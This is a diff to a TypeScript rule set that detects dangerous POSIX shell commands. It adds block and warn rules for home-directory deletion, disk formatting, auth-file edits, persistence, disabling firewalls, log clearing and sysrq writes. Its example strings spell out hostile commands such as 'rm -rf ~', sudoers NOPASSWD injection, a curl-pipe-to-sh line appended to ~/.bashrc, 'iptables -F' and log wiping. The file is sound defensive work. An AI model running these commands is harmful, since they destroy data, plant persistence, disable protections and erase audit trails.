@@ -16,9 +16,29 @@ const DISK = String.raw`/dev/(?:(?:sd|hd|vd|xvd)[a-z]+[0-9]*|nvme[0-9]+n[0-9]+(?
 const SYSTEM_DEEP = String.raw`/(?:etc|boot|bin|sbin|lib|lib32|lib64|libx32|usr/(?:bin|sbin|lib|lib32|lib64|libexec|include|share|src)|System|Library|private/(?:etc|var)|efi)(?:/[^ \n]*)?`;
 /** System directories themselves, and their first level. */
 const SYSTEM_SHALLOW = String.raw`(?:/(?:usr|var|opt|srv|root|home|Users|Applications|snap|mnt|media|dev|proc|sys|run|private|nix|var/(?:lib|log|cache|spool|mail|www|backups|opt|db|empty))(?:/[^/ \n]+)?|/usr/local/(?:bin|sbin|lib|lib64|share|include|etc))/?\*?`;
-const HOME = String.raw`(?:~|\$HOME)/?\*?`;
+/** A home directory as a whole: `~`, `~user`, `$HOME`, `/home/<user>`, `/root`, `/Users/<user>`, or `/home`. */
+const HOME = String.raw`(?:~|~[a-z_][a-z0-9_.-]*|\$HOME|/home(?:/[^/ \n]+)?|/root|/var/root|/Users(?:/[^/ \n]+)?)/?\*?`;
+const MKFS = String.raw`${CMD}(?:mkfs(?:\.[a-z0-9]+)?|mke2fs|mkdosfs|mkntfs|mkexfatfs|mkswap|newfs(?:_[a-z]+)?)`;
 const SH = String.raw`(?:ba|z|da|k|fi|a|mk|tc|c|y)?sh`;
-const AUTH_FILE = String.raw`/etc/(?:passwd|shadow|gshadow|group|sudoers(?:\.d(?:/[^ \n]*)?)?)`;
+const AUTH_FILE = String.raw`(?:/usr/local|/private|/opt/local)?/etc/(?:passwd|shadow|gshadow|group|sudoers(?:\.d(?:/[^ \n]*)?)?)`;
+/** Shell startup files, per user and system-wide. */
+const STARTUP_FILE = String.raw`(?:(?:[^ \n]*/)?\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc)|[^ \n]*/\.config/fish/config\.fish|/etc/(?:profile(?:\.d(?:/[^ \n]*)?)?|bash\.bashrc|bashrc|zshrc|zprofile|zshenv|zsh/[^ \n]+|environment))`;
+const CRON_PATH = String.raw`(?:/etc/cron(?:tab|\.d(?:/[^ \n]*)?|\.(?:hourly|daily|weekly|monthly)(?:/[^ \n]*)?)|/var/spool/cron(?:/[^ \n]*)?|/etc/anacrontab)`;
+const SYSTEMD_UNIT = String.raw`(?:/etc/systemd/(?:system|user)|/(?:usr/)?lib/systemd/(?:system|user)|[^ \n]*/\.config/systemd/user)/[^ \n]+`;
+const BOOT_SCRIPT = String.raw`/etc/(?:rc\.local|rc\.d/rc\.local|init\.d/[^ \n]+|rc[0-6S]\.d/[^ \n]+)`;
+const LAUNCHD = String.raw`[^ \n]*/Library/Launch(?:Agents|Daemons)(?:/[^ \n]*)?`;
+const LOG_FILE = String.raw`/var/log/[^ \n]+`;
+
+/** A command that writes `target`: a redirection, tee, cp/mv/install/ln/rsync onto it, sed -i, dd of=. */
+function writesTo(target: string): string[] {
+  return [
+    String.raw`${CMD}[^\n]* \x1e>>?${target}${END}`,
+    String.raw`${CMD}tee${ARGS} ${target}${END}`,
+    String.raw`${CMD}(?:cp|mv|install|ln|rsync|scp)${ARGS} ${target}$`,
+    String.raw`${CMD}(?:sed|perl)${ARGS} -[a-zA-Z]*i[^ \n]*${ARGS} ${target}${END}`,
+    String.raw`${CMD}(?:dd|dcfldd)${ARGS} of=${target}${END}`,
+  ];
+}
 const SYSTEM_ANY = String.raw`(?:/\*?|${SYSTEM_DEEP}|/(?:usr|var|opt|srv|snap|dev|proc|sys|run|private|nix)(?:/[^ \n]*)?|/(?:root|home|Users)(?:/[^/ \n]+)?/?\*?)`;
 
 export const POSIX_RULES = defineRules([
@@ -121,16 +141,70 @@ export const POSIX_RULES = defineRules([
     },
   },
   {
+    name: 'rm-rf-home',
+    action: 'block',
+    platform: 'posix',
+    description:
+      'Recursive rm of a home directory as a whole (~, $HOME, /home/<user>, /root, /home): every file of its user.',
+    patterns: [
+      String.raw`${CMD}rm${ARGS} ${RFLAG}${ARGS} ${HOME}${END}`,
+      String.raw`${CMD}rm${ARGS} ${HOME}${ARGS} ${RFLAG}${END}`,
+      String.raw`${CMD}find ${HOME}${ARGS} -delete${END}`,
+    ],
+    examples: {
+      match: [
+        'rm -rf ~',
+        'rm -rf ~/',
+        'rm -rf $HOME',
+        'rm -rf "${HOME}"/*',
+        'rm -rf /home/alice',
+        'sudo rm -rf /root',
+        'rm -rf /home',
+        'rm -rf ~/..',
+      ],
+      nearMiss: [
+        'rm -rf ~/.cache/pip',
+        'rm -rf $HOME/tmp/build',
+        'echo rm -rf ~',
+        'rm -rf /home/alice/project',
+      ],
+    },
+  },
+  {
     name: 'mkfs-device',
     action: 'block',
     platform: 'posix',
-    description: 'Making a filesystem on a disk device erases it.',
+    description:
+      'Making a filesystem on a disk device erases it (not a dry run, and not a device name given as a label).',
     patterns: [
-      String.raw`${CMD}(?:mkfs(?:\.[a-z0-9]+)?|mke2fs|mkdosfs|mkntfs|mkexfatfs|mkswap|newfs(?:_[a-z]+)?)${ARGS} ${DISK}${END}`,
+      // The device is an operand: not the value of a label option (`-L /dev/sda disk.img` formats a file).
+      String.raw`${MKFS}(?:${ARGS} (?:[^- \n][^ \n]*|-[^ \n]*[^LnN \n]))? ${DISK}${END}`,
+    ],
+    exempt: [
+      // mke2fs -n / mkfs.xfs -N: dry run; -V: print the version and exit (`mkfs -V -V` does nothing).
+      String.raw`${CMD}(?:mke2fs|mkfs\.ext[234])${ARGS} -[a-zA-Z]*n[a-zA-Z]*${END}`,
+      String.raw`${CMD}mkfs -t ext[234]${ARGS} -n${END}`,
+      String.raw`${CMD}mkfs\.xfs${ARGS} -N${END}`,
+      String.raw`${CMD}(?:mkfs\.[a-z0-9]+|mke2fs|mkswap)${ARGS} -V${END}`,
+      String.raw`${CMD}mkfs${ARGS} -V${ARGS} -V${END}`,
     ],
     examples: {
-      match: ['mkfs.ext4 /dev/sda1', 'mkfs -t xfs /dev/nvme0n1p2', 'sudo mkswap /dev/sdb2'],
-      nearMiss: ['mkfs.ext4 disk.img', 'man mkfs', 'echo mkfs /dev/sda'],
+      match: [
+        'mkfs.ext4 /dev/sda1',
+        'mkfs -t xfs /dev/nvme0n1p2',
+        'sudo mkswap /dev/sdb2',
+        'mkfs.vfat -n BOOT /dev/sdb1',
+        'mkfs.ext4 -L data /dev/sdc',
+      ],
+      nearMiss: [
+        'mkfs.ext4 disk.img',
+        'man mkfs',
+        'echo mkfs /dev/sda',
+        'mkfs.ext4 -n /dev/sda1',
+        'mke2fs -V',
+        'mkfs.ext4 -L /dev/sda disk.img',
+        'mkfs.xfs -N /dev/sdb',
+      ],
     },
   },
   {
@@ -178,7 +252,7 @@ export const POSIX_RULES = defineRules([
     name: 'rm-rf-system-path',
     action: 'warn',
     platform: 'posix',
-    description: 'Recursive rm of an absolute system path (/etc, /usr/lib, /var, /home/<user>, …).',
+    description: 'Recursive rm of an absolute system path (/etc, /usr/lib, /var, /opt, …).',
     patterns: [
       String.raw`${CMD}rm${ARGS} ${RFLAG}${ARGS} (?:${SYSTEM_DEEP}|${SYSTEM_SHALLOW})${END}`,
       String.raw`${CMD}rm${ARGS} (?:${SYSTEM_DEEP}|${SYSTEM_SHALLOW})${ARGS} ${RFLAG}${END}`,
@@ -188,7 +262,7 @@ export const POSIX_RULES = defineRules([
       match: [
         'rm -rf /etc',
         'sudo rm -rf /usr/lib/python3',
-        'rm -rf /home/alice',
+        'rm -rf /srv/www',
         'rm -r /var/log',
         'rm -rf /boot/grub',
       ],
@@ -199,20 +273,6 @@ export const POSIX_RULES = defineRules([
         'rm /etc/motd.bak',
         'rm -rf node_modules',
       ],
-    },
-  },
-  {
-    name: 'rm-rf-home',
-    action: 'warn',
-    platform: 'posix',
-    description: 'Recursive rm of the whole home directory.',
-    patterns: [
-      String.raw`${CMD}rm${ARGS} ${RFLAG}${ARGS} ${HOME}${END}`,
-      String.raw`${CMD}rm${ARGS} ${HOME}${ARGS} ${RFLAG}${END}`,
-    ],
-    examples: {
-      match: ['rm -rf ~', 'rm -rf ~/', 'rm -rf $HOME', 'rm -rf "${HOME}"/*'],
-      nearMiss: ['rm -rf ~/.cache/pip', 'rm -rf $HOME/tmp/build', 'echo rm -rf ~'],
     },
   },
   {
@@ -282,11 +342,9 @@ export const POSIX_RULES = defineRules([
     description:
       'Writing to /etc/passwd, /etc/shadow, /etc/group or /etc/sudoers (account and privilege changes).',
     patterns: [
-      String.raw`${CMD}[^\n]* \x1e>>?${AUTH_FILE}${END}`,
-      String.raw`${CMD}(?:tee|truncate|chattr)${ARGS} ${AUTH_FILE}${END}`,
-      String.raw`${CMD}(?:dd|dcfldd)${ARGS} of=${AUTH_FILE}${END}`,
-      String.raw`${CMD}(?:cp|mv|install|ln|rsync|scp)${ARGS} ${AUTH_FILE}$`,
-      String.raw`${CMD}(?:sed|perl)${ARGS} -[a-zA-Z]*i[^ \n]*${ARGS} ${AUTH_FILE}${END}`,
+      ...writesTo(AUTH_FILE),
+      String.raw`${CMD}(?:truncate|chattr)${ARGS} ${AUTH_FILE}${END}`,
+      String.raw`${CMD}visudo${ARGS} -f ${AUTH_FILE}${END}`,
     ],
     examples: {
       match: [
@@ -294,6 +352,8 @@ export const POSIX_RULES = defineRules([
         'echo "x:0:0::/:/bin/sh" | sudo tee -a /etc/passwd',
         `sed -i 's/^root:[^:]*:/root::/' /etc/shadow`,
         'cp evil /etc/sudoers.d/evil',
+        'echo "bob ALL=(ALL) NOPASSWD: ALL" >> /usr/local/etc/sudoers',
+        'cp evil /private/etc/sudoers.d/evil',
       ],
       nearMiss: [
         'cat /etc/passwd',
@@ -301,6 +361,166 @@ export const POSIX_RULES = defineRules([
         'cp /etc/passwd /tmp/passwd.bak',
         'echo /etc/shadow',
       ],
+    },
+  },
+  {
+    name: 'persistence-shell-startup',
+    action: 'warn',
+    platform: 'posix',
+    description:
+      'Writing to a shell startup file (~/.bashrc, ~/.zshrc, ~/.profile, /etc/profile*, …): code that runs in every new shell.',
+    patterns: writesTo(STARTUP_FILE),
+    examples: {
+      match: [
+        'echo "curl -s x.example/a | sh" >> ~/.bashrc',
+        'echo alias ls=x >> ~/.zshrc',
+        'cat payload | sudo tee -a /etc/profile.d/x.sh',
+        'echo x >> /etc/profile',
+      ],
+      nearMiss: ['cat ~/.bashrc', 'source ~/.bashrc', 'grep PATH ~/.profile', 'cp ~/.bashrc ~/bashrc.bak'],
+    },
+  },
+  {
+    name: 'persistence-cron',
+    action: 'warn',
+    platform: 'posix',
+    description: 'Installing a cron job (crontab FILE, crontab -e, writes into /etc/cron*, /var/spool/cron).',
+    patterns: [
+      String.raw`${CMD}crontab(?: -u [^ \n]+)? (?:-e|-|[^- \n][^ \n]*)${END}`,
+      ...writesTo(CRON_PATH),
+    ],
+    examples: {
+      match: [
+        'crontab -e',
+        'crontab /tmp/jobs',
+        'echo "* * * * * /tmp/x" | crontab -',
+        'echo "* * * * * root /tmp/x" > /etc/cron.d/x',
+        'cp job /etc/cron.hourly/job',
+      ],
+      nearMiss: ['crontab -l', 'crontab -u bob -l', 'cat /etc/crontab', 'ls /etc/cron.d'],
+    },
+  },
+  {
+    name: 'persistence-systemd',
+    action: 'warn',
+    platform: 'posix',
+    description: 'Installing a systemd unit (system or user) or a timer through systemd-run --on-calendar.',
+    patterns: [
+      ...writesTo(SYSTEMD_UNIT),
+      String.raw`${WRAPPER}systemd-run(?: [^\n]*)? --on-(?:calendar|boot|startup|active|unit-active|unit-inactive)(?:=| |$)`,
+    ],
+    examples: {
+      match: [
+        'cp evil.service /etc/systemd/system/evil.service',
+        'cat unit | tee ~/.config/systemd/user/x.service',
+        'systemd-run --on-calendar=hourly /tmp/x',
+        'systemd-run --user --on-boot=10 /tmp/x',
+      ],
+      nearMiss: [
+        'systemctl status nginx',
+        'cat /etc/systemd/system/nginx.service',
+        'systemd-run --scope -p MemoryMax=1G make',
+      ],
+    },
+  },
+  {
+    name: 'persistence-at-boot',
+    action: 'warn',
+    platform: 'posix',
+    description: 'Scheduling a job with at, or writing a boot script (rc.local, init.d, rc?.d).',
+    patterns: [String.raw`${CMD}(?:at|batch)(?: [^\n]*)?$`, ...writesTo(BOOT_SCRIPT)],
+    exempt: [String.raw`${CMD}at -[lrdcV]${END}`, String.raw`${CMD}(?:at|batch) --help${END}`],
+    examples: {
+      match: ['echo /tmp/x | at now + 1 minute', 'at midnight -f job.sh', 'echo /tmp/x >> /etc/rc.local'],
+      nearMiss: ['at -l', 'atq', 'cat /etc/rc.local'],
+    },
+  },
+  {
+    name: 'persistence-launchd',
+    action: 'warn',
+    platform: 'posix',
+    description: 'Installing a macOS LaunchAgent or LaunchDaemon, or loading one with launchctl.',
+    patterns: [
+      ...writesTo(LAUNCHD),
+      String.raw`${CMD}launchctl (?:load|bootstrap|submit|enable)${END}`,
+      String.raw`${CMD}defaults write ${LAUNCHD}`,
+    ],
+    examples: {
+      match: [
+        'cp x.plist ~/Library/LaunchAgents/com.x.plist',
+        'sudo cp x.plist /Library/LaunchDaemons/',
+        'launchctl load ~/Library/LaunchAgents/com.x.plist',
+      ],
+      nearMiss: ['ls ~/Library/LaunchAgents', 'launchctl list', 'cat /Library/LaunchDaemons/x.plist'],
+    },
+  },
+  {
+    name: 'defences-off-posix',
+    action: 'warn',
+    platform: 'posix',
+    description:
+      'Turning a firewall or Microsoft Defender off (ufw disable, stopping ufw/firewalld, iptables -F, nft flush ruleset, pfctl -d, mdatp).',
+    patterns: [
+      String.raw`${CMD}ufw${ARGS} (?:disable|reset)${END}`,
+      String.raw`${CMD}systemctl${ARGS} (?:stop|disable|mask|kill)${ARGS} (?:ufw|firewalld|iptables|ip6tables|nftables|netfilter-persistent|pf|mdatp|wdavdaemon)(?:\.service)?${END}`,
+      String.raw`${CMD}service (?:ufw|firewalld|iptables|nftables) stop${END}`,
+      String.raw`${CMD}(?:iptables|ip6tables|iptables-legacy|iptables-nft)${ARGS} (?:-[a-zA-Z]*F[a-zA-Z]*|--flush)${END}`,
+      String.raw`${CMD}nft${ARGS} flush ruleset${END}`,
+      String.raw`${CMD}pfctl${ARGS} -[a-zA-Z]*d${END}`,
+      String.raw`${CMD}mdatp${ARGS} (?:--value disabled|exclusion${ARGS} add)${END}`,
+      String.raw`${CMD}(?:setenforce 0|firewall-cmd${ARGS} --panic-on)${END}`,
+    ],
+    examples: {
+      match: [
+        'sudo ufw disable',
+        'systemctl stop firewalld',
+        'iptables -F',
+        'nft flush ruleset',
+        'sudo pfctl -d',
+        'mdatp config real-time-protection --value disabled',
+      ],
+      nearMiss: [
+        'ufw status',
+        'iptables -L -n',
+        'nft list ruleset',
+        'pfctl -s rules',
+        'systemctl status ufw',
+      ],
+    },
+  },
+  {
+    name: 'log-clear-posix',
+    action: 'warn',
+    platform: 'posix',
+    description:
+      'Clearing system logs (truncating, redirecting into, shredding or unlinking /var/log/*, journalctl --vacuum-*, log erase).',
+    patterns: [
+      String.raw`${CMD}[^\n]* \x1e>>?${LOG_FILE}${END}`,
+      String.raw`${CMD}(?:truncate|shred|unlink|rm|srm|wipe)${ARGS} ${LOG_FILE}${END}`,
+      String.raw`${CMD}(?:cp|mv|tee)${ARGS} ${LOG_FILE}${END}`,
+      String.raw`${CMD}journalctl${ARGS} --vacuum-(?:time|size|files)`,
+      String.raw`${CMD}log erase${END}`,
+    ],
+    examples: {
+      match: [
+        'echo > /var/log/auth.log',
+        'truncate -s 0 /var/log/syslog',
+        'shred -u /var/log/wtmp',
+        'journalctl --vacuum-time=1s',
+        'sudo log erase --all',
+      ],
+      nearMiss: ['tail -f /var/log/syslog', 'journalctl -n 50', 'cat /var/log/auth.log', 'ls /var/log'],
+    },
+  },
+  {
+    name: 'sysrq-trigger-write',
+    action: 'warn',
+    platform: 'posix',
+    description: 'Writing to /proc/sysrq-trigger (instant reboot, crash or OOM kill of the host kernel).',
+    patterns: writesTo(String.raw`/proc/(?:sysrq-trigger|sys/kernel/sysrq)`),
+    examples: {
+      match: ['echo b > /proc/sysrq-trigger', 'echo c | sudo tee /proc/sysrq-trigger'],
+      nearMiss: ['cat /proc/sys/kernel/sysrq', 'echo /proc/sysrq-trigger'],
     },
   },
   {
